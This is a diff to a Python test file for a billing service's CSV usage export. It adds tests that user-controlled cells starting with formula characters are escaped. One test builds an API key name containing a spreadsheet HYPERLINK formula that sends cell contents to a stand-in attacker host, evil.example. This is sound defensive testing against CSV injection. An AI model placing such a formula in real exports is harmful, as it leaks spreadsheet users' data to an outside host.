@@ -107,3 +107,33 @@ def test_the_dashboard_lists_recent_usage_and_what_is_held(owner_client, owner):
     html = page.content.decode()
     assert "<td>$0.0006</td>" in html
     assert "Reserved" in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_the_user_controls_is_a_spreadsheet_formula(owner_client, owner, start):
+    # OWASP CSV injection: a key named =HYPERLINK(...) must arrive as text, not a formula.
+    factories.funded(owner, "1")
+    card = factories.card(organisation=factories.organisation(slug=f"{start}2+3"))
+    route = factories.route(card=card, price=Decimal("0.0002"))
+    name = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    key, _ = api_key_create(user=owner, name=name)
+    run(user=owner, route=route, key=key)
+
+    response = owner_client.get(reverse("billing:usage_csv"))
+
+    (row,) = read_csv(response)
+    assert row["api_key"] == f"'{name} (vt_{key.prefix})"
+    assert row["model"] == f"'{card.model_id}"
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert (row["images"], row["cost_usd"]) == ("1", "0.0002")  # numbers stay numbers
+
+
+def test_ordinary_names_are_written_as_they_are(owner_client, owner):
+    factories.funded(owner, "1")
+    route = factories.route(price=Decimal("0.0002"))
+    key, _ = api_key_create(user=owner, name="laptop = work, 2+2 @home")
+    run(user=owner, route=route, key=key)
+    (row,) = read_csv(owner_client.get(reverse("billing:usage_csv")))
+    assert row["api_key"] == f"laptop = work, 2+2 @home (vt_{key.prefix})"
+    assert row["model"] == route.card.model_id
